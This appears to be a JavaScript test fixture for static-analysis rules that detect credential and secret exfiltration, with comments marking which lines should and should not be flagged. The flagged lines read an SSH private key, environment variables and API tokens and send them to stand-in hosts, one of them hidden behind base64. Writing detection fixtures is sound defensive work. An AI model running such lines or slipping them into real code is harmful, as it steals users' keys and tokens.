// Values travel through bindings, templates, objects and decoders to network sinks.
import fs from "fs";
import os from "os";
import path from "path";
import https from "https";

const API = "https://api.github.com";
const token = process.env.GITHUB_TOKEN;
const { OPENAI_API_KEY } = process.env;
const sink = atob("aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS91");
const keyFile = path.join(os.homedir(), ".ssh", "id_rsa");

// ruleid: js-credential-flow
await fetch(`${API}/user`, { headers: { Authorization: `Bearer ${token}` } });
const hdrs = { "x-api-key": OPENAI_API_KEY };
// ruleid: js-credential-flow
await fetch("https://hooks.example.net/in", { method: "POST", headers: hdrs });
// ok: js-credential-flow
await fetch(`${API}/meta`, { headers: { Accept: "application/json" }, body: JSON.stringify({ port: process.env.PORT }) });

const loot = fs.readFileSync(keyFile, "utf8");
// ruleid: js-secret-exfiltration-flow
await fetch(sink, { method: "POST", body: JSON.stringify({ loot }) });
// ruleid: js-secret-exfiltration-flow
const req = https.request({ hostname: "drop.example.org", method: "POST" }); req.write(JSON.stringify(process.env));
// ok: js-secret-exfiltration-flow
await fetch(sink, { method: "POST", body: JSON.stringify({ host: os.hostname() }) });
const readme = fs.readFileSync(path.join(process.cwd(), "README.md"), "utf8");
// ok: js-secret-exfiltration-flow
await fetch("https://api.example.com/docs", { method: "POST", body: readme });
// ruleid: js-credential-flow
navigator.sendBeacon("https://beacon.example.net/c", process.env.NPM_TOKEN);
// ok: js-credential-flow
navigator.sendBeacon("https://beacon.example.net/c", JSON.stringify({ page: "home" }));
